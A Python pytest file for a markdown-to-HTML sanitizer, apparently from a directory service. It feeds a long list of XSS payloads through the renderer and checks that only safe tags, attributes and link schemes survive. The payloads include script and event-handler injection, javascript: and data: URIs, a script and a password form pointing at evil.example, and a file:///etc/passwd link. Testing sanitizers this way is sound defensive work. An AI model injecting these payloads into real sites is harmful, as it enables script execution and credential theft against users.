"""Markdown becomes HTML that is safe to show, whatever somebody wrote."""

import asyncio
from html.parser import HTMLParser

import pytest

from services.directories.domain import guide_markdown
from services.directories.domain.guide_markdown import Rendered, plain, render

TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong",
    "s", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "start"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://good.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://good.example' onmouseover='alert(1))",
    '[x](https://good.example"onmouseover="alert(1))',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "![<img src=x onerror=alert(1)>](x)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](x)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "|a|\n|:-:|\n|b|",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p id=x class=y>z</p>",
    "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1)>y",
    "<a\u2028href=javascript:alert(1)>",
    "\ue000x\ue001",
    "[x](https://good.example/?a=<script>)",
    "1. x\n2. <b onclick=alert(1)>y</b>",
]


class Reader(HTMLParser):
    """Collects what a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_harmless_tags_and_links_comes_out(attack: str) -> None:
    for text in (attack, f"before {attack} after", f"> - {attack}", f"**{attack}**"):
        reader = Reader()
        reader.feed(render(text))

        assert reader.tags <= TAGS
        assert {name for name, _ in reader.attributes} <= ATTRIBUTES
        links = [value or "" for name, value in reader.attributes if name == "href"]
        schemes = {link.partition(":")[0] for link in links if ":" in link}
        assert schemes <= {"http", "https", "mailto"}


def test_links_lead_away_without_telling_where_from() -> None:
    link = render("[x](https://example.org)")

    assert link == '<p><a href="https://example.org" rel="noopener noreferrer nofollow">x</a></p>\n'
    assert 'href="/guide/glossary"' in render("[x](/guide/glossary)")


def test_a_picture_is_its_description_and_raw_html_is_text() -> None:
    assert render("![A *map*](x.png)") == "<p>A *map*</p>\n"
    assert render("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_headings_lists_tables_and_struck_text_are_there() -> None:
    made = render("## A\n\n3. b\n\n|c|d|\n|-|-|\n|e|~~f~~|\n")

    assert "<h2>A</h2>" in made
    assert '<ol start="3">' in made
    assert "<td><s>f</s></td>" in made


def test_plain_text_has_the_words_alone() -> None:
    text = "## A *b*\n\n- c [d](https://e.example) `f`\n- <b>g</b> ![h](i)\n\n|j|\n|-|\n|k|\n\n```\nl\n```\n\ue000"

    assert plain(text).split() == ["A", "b", "c", "d", "f", "<b>g</b>", "h", "j", "k", "l"]


async def test_what_was_rendered_is_remembered_up_to_a_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    made: list[str] = []

    def rendered(text: str) -> str:
        made.append(text)
        return f"<p>{text}</p>"

    monkeypatch.setattr(guide_markdown, "render", rendered)
    remembered = Rendered(limit=20)

    for text in ("aa", "bb", "aa", "cc", "bb"):
        assert await remembered.html(text) == f"<p>{text}</p>"

    assert made == ["aa", "bb", "cc", "bb"]
    assert len(remembered) == 2


async def test_two_who_ask_at_once_count_as_one() -> None:
    remembered = Rendered()

    both = await asyncio.gather(remembered.html("x"), remembered.html("x"))

    assert both[0] == both[1]
    assert remembered._size == len(both[0])
